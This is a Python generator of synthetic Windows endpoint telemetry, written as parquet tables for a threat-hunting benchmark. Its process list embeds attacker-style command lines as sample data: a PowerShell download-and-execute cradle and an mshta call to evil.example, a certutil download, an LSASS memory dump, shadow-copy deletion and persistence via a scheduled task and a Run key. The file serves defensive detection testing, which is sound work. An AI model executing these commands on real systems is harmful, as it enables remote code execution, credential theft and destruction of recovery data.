"""A small synthetic data directory for the benchmark workload, when `hunt demo` is not at hand.

    python bench/synth.py DIR [--events N] [--days D] [--seed S]

Writes the tables the workload reads (DeviceProcessEvents, DeviceNetworkEvents,
DeviceFileEvents, DeviceEvents, DeviceLogonEvents, DeviceInfo, DeviceNetworkInfo) in the
store layout (`<DIR>/<Table>/date=YYYY-MM-DD/part-*.parquet`, every catalog column present,
typed as `hunt.store.layout` types them). Deterministic for a seed. The benchmark figures
come from `hunt demo` data; this generator exists for the smoke test and for developing the
workload (a few thousand events are enough for both).
"""
from __future__ import annotations

import argparse
import datetime as _dt
import json
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

END = _dt.datetime(2026, 1, 15)       # naive UTC: the last instant of the data is before it

PROCESSES = [  # (file name, folder, command-line templates)
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
     ["powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
      "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
      "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
      "powershell.exe Get-Process | Out-File C:\\temp\\p.txt"]),
    ("cmd.exe", r"C:\Windows\System32",
     ["cmd.exe /c whoami /all", "cmd.exe /c net user administrator", "cmd.exe /c dir C:\\Users",
      "cmd.exe /c echo hello", "cmd.exe /c vssadmin delete shadows /all /quiet"]),
    ("rundll32.exe", r"C:\Windows\System32",
     ["rundll32.exe shell32.dll,Control_RunDLL", "rundll32.exe C:\\Users\\Public\\x.dll,Start",
      "rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full"]),
    ("certutil.exe", r"C:\Windows\System32",
     ["certutil.exe -urlcache -split -f http://files.example/tool.exe tool.exe",
      "certutil.exe -decode in.b64 out.exe", "certutil.exe -verify cert.cer"]),
    ("svchost.exe", r"C:\Windows\System32", ["svchost.exe -k netsvcs -p", "svchost.exe -k LocalService",
                                               "svchost.exe -k NetworkService -p -s Dnscache"]),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application",
     ["\"chrome.exe\" --type=renderer --lang=en-US", "\"chrome.exe\" https://intranet.contoso.com"]),
    ("explorer.exe", r"C:\Windows", ["C:\\Windows\\explorer.exe"]),
    ("schtasks.exe", r"C:\Windows\System32",
     ["schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute",
      "schtasks.exe /query /fo LIST"]),
    ("reg.exe", r"C:\Windows\System32",
     ["reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe",
      "reg.exe query HKLM\\SYSTEM\\CurrentControlSet"]),
    ("mshta.exe", r"C:\Windows\System32", ["mshta.exe http://evil.example/x.hta"]),
    ("wmic.exe", r"C:\Windows\System32\wbem",
     ["wmic.exe process call create calc.exe", "wmic.exe shadowcopy delete"]),
    ("notepad.exe", r"C:\Windows\System32", ["notepad.exe C:\\temp\\notes.txt"]),
]
PROCESS_WEIGHTS = [8, 10, 2, 1, 30, 20, 10, 2, 3, 0.3, 1, 5]
PARENTS = ["explorer.exe", "svchost.exe", "cmd.exe", "powershell.exe", "winword.exe",
           "services.exe"]
URLS = ["login.microsoftonline.com", "www.bing.com", "intranet.contoso.com",
        "evil.example", "files.example", "update.microsoft.com", "github.com",
        "raw.githubusercontent.com", "pastebin.com", ""]
PORTS = [443, 80, 53, 445, 3389, 8080, 4444]
NET_ACTIONS = ["ConnectionSuccess", "ConnectionFailed", "ConnectionRequest", "InboundConnectionAccepted"]
FILE_ACTIONS = ["FileCreated", "FileModified", "FileDeleted", "FileRenamed"]
FILE_NAMES = ["report.docx", "invoice.pdf", "tool.exe", "payload.dll", "notes.txt",
              "backup.zip", "x.ps1", "readme.md"]
EVENT_ACTIONS = ["AntivirusDetection", "PowerShellCommand", "DnsQueryResponse",
                 "ProcessCreatedUsingWmiQuery", "UsbDriveMounted"]
LOGON_TYPES = ["Interactive", "Network", "RemoteInteractive", "Batch", "Service"]
LOGON_ACTIONS = ["LogonSuccess", "LogonFailed"]
OS = ["Windows10", "Windows11", "WindowsServer2019", "WindowsServer2022"]

# share of the events per table
SHARES = {"DeviceProcessEvents": 0.35, "DeviceNetworkEvents": 0.30, "DeviceFileEvents": 0.20,
          "DeviceEvents": 0.10, "DeviceLogonEvents": 0.05}


def _schema(table: str):
    from hunt.semantic.catalog import load_default_catalog
    from hunt.store.layout import arrow_schema
    return arrow_schema(load_default_catalog().table(table))


def _table(schema, columns: dict, n: int):
    """An Arrow table of `schema` with the given columns; the others null."""
    import pyarrow as pa
    arrays = []
    for field in schema:
        if field.name in columns:
            arrays.append(pa.array(columns[field.name], type=field.type))
        else:
            arrays.append(pa.nulls(n, type=field.type))
    return pa.Table.from_arrays(arrays, schema=schema)


def _write(data: Path, table: str, day: _dt.date, columns: dict, n: int) -> None:
    from hunt.store.layout import write_partition
    if n:
        write_partition(data, table, day, _table(_schema(table), columns, n),
                        part_id=f"synth-{day.isoformat()}")


def generate(data, *, events: int = 5000, days: int = 3, devices: int = 20,
             seed: int = 7) -> Path:
    """Write the synthetic tables into `data` (created); returns its path."""
    import numpy as np

    data = Path(data)
    data.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(seed)
    dev_names = [f"dev-{i:04d}.contoso.com" for i in range(devices)]
    dev_ids = [f"{i:040x}" for i in range(1, devices + 1)]
    users = [f"user{i:03d}" for i in range(max(5, devices // 2))]
    start = END - _dt.timedelta(days=days)
    per_day = max(1, events // days)
    base_report = 0

    def pick(seq, n, p=None):
        idx = rng.choice(len(seq), size=n, p=p)
        return [seq[i] for i in idx], idx

    for d in range(days):
        day = (start + _dt.timedelta(days=d)).date()
        day_start = _dt.datetime.combine(day, _dt.time())

        def stamps(n):
            us = np.sort(rng.integers(0, 86_400_000_000, size=n))
            return [day_start + _dt.timedelta(microseconds=int(x)) for x in us]

        def common(n):
            di = rng.integers(0, devices, size=n)
            return di, {"Timestamp": stamps(n), "DeviceId": [dev_ids[i] for i in di],
                        "DeviceName": [dev_names[i] for i in di]}

        # DeviceProcessEvents
        n = int(per_day * SHARES["DeviceProcessEvents"])
        di, cols = common(n)
        w = np.array(PROCESS_WEIGHTS) / sum(PROCESS_WEIGHTS)
        _, pidx = pick(PROCESSES, n, w)
        cmd = [PROCESSES[p][2][rng.integers(0, len(PROCESSES[p][2]))] for p in pidx]
        acct = [users[i] for i in rng.integers(0, len(users), size=n)]
        cols.update({
            "ActionType": ["ProcessCreated"] * n,
            "FileName": [PROCESSES[p][0] for p in pidx],
            "FolderPath": [PROCESSES[p][1] + "\\" + PROCESSES[p][0] for p in pidx],
            "ProcessCommandLine": cmd,
            "ProcessId": rng.integers(100, 60000, size=n).tolist(),
            "AccountName": acct, "AccountDomain": ["contoso"] * n,
            "InitiatingProcessFileName": pick(PARENTS, n)[0],
            "InitiatingProcessAccountName": acct,
            "InitiatingProcessId": rng.integers(100, 60000, size=n).tolist(),
            "InitiatingProcessCommandLine": ["parent.exe"] * n,
            "SHA256": [f"{(p * 7919) % 1000003:064x}" for p in pidx],
            "ReportId": list(range(base_report, base_report + n)),
        })
        # a rare binary per day on one device (prevalence query)
        if n:
            cols["FileName"][0] = f"rare{d}.exe"
            cols["FolderPath"][0] = f"C:\\Users\\Public\\rare{d}.exe"
        base_report += n
        _write(data, "DeviceProcessEvents", day, cols, n)

        # DeviceNetworkEvents
        n = int(per_day * SHARES["DeviceNetworkEvents"])
        di, cols = common(n)
        urls, uidx = pick(URLS, n)
        cols.update({
            "ActionType": pick(NET_ACTIONS, n, [0.7, 0.1, 0.1, 0.1])[0],
            "RemoteIP": [f"10.{(u * 37) % 256}.{(u * 11) % 256}.{int(r)}" for u, r in
                         zip(uidx, rng.integers(1, 20, size=n))],
            "RemotePort": pick(PORTS, n, [0.5, 0.2, 0.15, 0.05, 0.04, 0.04, 0.02])[0],
            "RemoteUrl": urls,
            "LocalIP": [f"192.168.1.{i + 2}" for i in di],
            "Protocol": ["Tcp"] * n,
            "InitiatingProcessFileName": [PROCESSES[p][0] for p in
                                          rng.choice(len(PROCESSES), size=n, p=w)],
            "InitiatingProcessId": rng.integers(100, 60000, size=n).tolist(),
            "InitiatingProcessAccountName": [users[i] for i in
                                             rng.integers(0, len(users), size=n)],
            "ReportId": list(range(base_report, base_report + n)),
        })
        if n:   # one address a day never seen before (the leftanti query)
            cols["RemoteIP"][-1] = f"198.51.100.{d % 250}"
        base_report += n
        _write(data, "DeviceNetworkEvents", day, cols, n)

        # DeviceFileEvents
        n = int(per_day * SHARES["DeviceFileEvents"])
        di, cols = common(n)
        fn = pick(FILE_NAMES, n)[0]
        cols.update({
            "ActionType": pick(FILE_ACTIONS, n)[0],
            "FileName": fn,
            "FolderPath": [f"C:\\Users\\{users[i % len(users)]}\\Downloads\\{f}"
                           for i, f in zip(di, fn)],
            "SHA256": [f"{hash(f) & 0xffff:064x}" for f in fn],
            "InitiatingProcessFileName": pick(PARENTS + ["chrome.exe"], n)[0],
            "ReportId": list(range(base_report, base_report + n)),
        })
        base_report += n
        _write(data, "DeviceFileEvents", day, cols, n)

        # DeviceEvents (AdditionalFields: JSON text)
        n = int(per_day * SHARES["DeviceEvents"])
        di, cols = common(n)
        acts = pick(EVENT_ACTIONS, n)[0]
        extra = []
        for a, r in zip(acts, rng.integers(0, 1000, size=n)):
            if a == "PowerShellCommand":
                extra.append(json.dumps({"Command": ["Invoke-WebRequest", "Get-Process",
                                                     "Set-MpPreference"][r % 3]}))
            elif a == "AntivirusDetection":
                extra.append(json.dumps({"ThreatName": f"Trojan:Win32/Fake.{r % 7}",
                                         "WasRemediated": bool(r % 2)}))
            elif a == "DnsQueryResponse":
                extra.append(json.dumps({"DnsQueryString": URLS[r % (len(URLS) - 1)],
                                         "DnsQueryAnswers": [f"10.0.0.{r % 9}"]}))
            else:
                extra.append("{}")
        cols.update({"ActionType": acts, "AdditionalFields": extra,
                     "FileName": pick(FILE_NAMES, n)[0],
                     "InitiatingProcessFileName": pick(PARENTS, n)[0],
                     "ReportId": list(range(base_report, base_report + n))})
        base_report += n
        _write(data, "DeviceEvents", day, cols, n)

        # DeviceLogonEvents
        n = int(per_day * SHARES["DeviceLogonEvents"])
        di, cols = common(n)
        cols.update({"ActionType": pick(LOGON_ACTIONS, n, [0.85, 0.15])[0],
                     "LogonType": pick(LOGON_TYPES, n)[0],
                     "AccountName": [users[i] for i in rng.integers(0, len(users), size=n)],
                     "AccountDomain": ["contoso"] * n,
                     "RemoteIP": [f"10.1.0.{int(x)}" for x in rng.integers(1, 30, size=n)],
                     "ReportId": list(range(base_report, base_report + n))})
        if n >= 5:  # a burst of failures then a success, same account, device and hour
            for k in range(5):
                cols["AccountName"][k] = users[d % len(users)]
                cols["DeviceId"][k], cols["DeviceName"][k] = dev_ids[0], dev_names[0]
                cols["Timestamp"][k] = day_start + _dt.timedelta(hours=3, minutes=k)
                cols["ActionType"][k] = "LogonSuccess" if k == 4 else "LogonFailed"
        base_report += n
        _write(data, "DeviceLogonEvents", day, cols, n)

        # DeviceInfo and DeviceNetworkInfo: one snapshot per device every 6 hours
        snaps = [(i, day_start + _dt.timedelta(hours=h, seconds=i)) for i in range(devices)
                 for h in (0, 6, 12, 18)]
        n = len(snaps)
        _write(data, "DeviceInfo", day, {
            "Timestamp": [t for _, t in snaps],
            "DeviceId": [dev_ids[i] for i, _ in snaps],
            "DeviceName": [dev_names[i] for i, _ in snaps],
            "OSPlatform": [OS[i % len(OS)] for i, _ in snaps],
            "OSBuild": [19045 + (i % 3) for i, _ in snaps],
            "PublicIP": [f"203.0.113.{i % 250}" for i, _ in snaps],
            "MachineGroup": [f"group-{i % 4}" for i, _ in snaps],
            "LoggedOnUsers": [json.dumps([{"UserName": users[(i + h) % len(users)],
                                           "DomainName": "contoso"}])
                              for h, (i, _) in enumerate(snaps)],
            "ReportId": list(range(base_report, base_report + n)),
        }, n)
        _write(data, "DeviceNetworkInfo", day, {
            "Timestamp": [t for _, t in snaps],
            "DeviceId": [dev_ids[i] for i, _ in snaps],
            "DeviceName": [dev_names[i] for i, _ in snaps],
            "NetworkAdapterName": ["Ethernet"] * n,
            "NetworkAdapterStatus": ["Up"] * n,
            "MacAddress": [f"00-15-5D-00-{i // 256:02X}-{i % 256:02X}" for i, _ in snaps],
            "IPAddresses": [json.dumps([{"IPAddress": f"192.168.1.{i + 2}",
                                         "SubnetPrefix": 24, "AddressType": "Private"},
                                        {"IPAddress": f"fe80::{i + 2:x}",
                                         "SubnetPrefix": 64, "AddressType": "LinkLocal"}])
                            for i, _ in snaps],
            "ReportId": list(range(base_report, base_report + n)),
        }, n)
        base_report += n
    return data


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("dir", type=Path)
    ap.add_argument("--events", type=int, default=5000)
    ap.add_argument("--days", type=int, default=3)
    ap.add_argument("--devices", type=int, default=20)
    ap.add_argument("--seed", type=int, default=7)
    args = ap.parse_args(argv)
    generate(args.dir, events=args.events, days=args.days, devices=args.devices,
             seed=args.seed)
    print(f"wrote {args.dir}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
